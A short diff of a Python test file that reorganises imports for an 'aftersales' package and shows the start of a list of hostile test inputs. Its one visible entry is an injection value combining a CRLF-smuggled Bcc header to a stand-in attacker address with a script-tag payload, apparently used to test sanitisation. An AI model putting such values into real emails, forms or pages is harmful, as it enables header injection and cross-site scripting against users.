@@ -20,7 +20,9 @@ import icalendar
 sys.path.insert(0, str(Path(__file__).parent / "core"))
 from test_outputs import DRAFT, TODAY, make_jpeg  # noqa: E402
 
-from aftersales import exif, fields, outputs, texts  # noqa: E402
+from aftersales import outputs  # noqa: E402
+from aftersales.data import fields  # noqa: E402
+from aftersales.outputs import exif, texts  # noqa: E402
 
 HOSTILE = [
     "a\r\nBcc: spy@evil.example\r\n\r\n<script>alert(1)</script>",
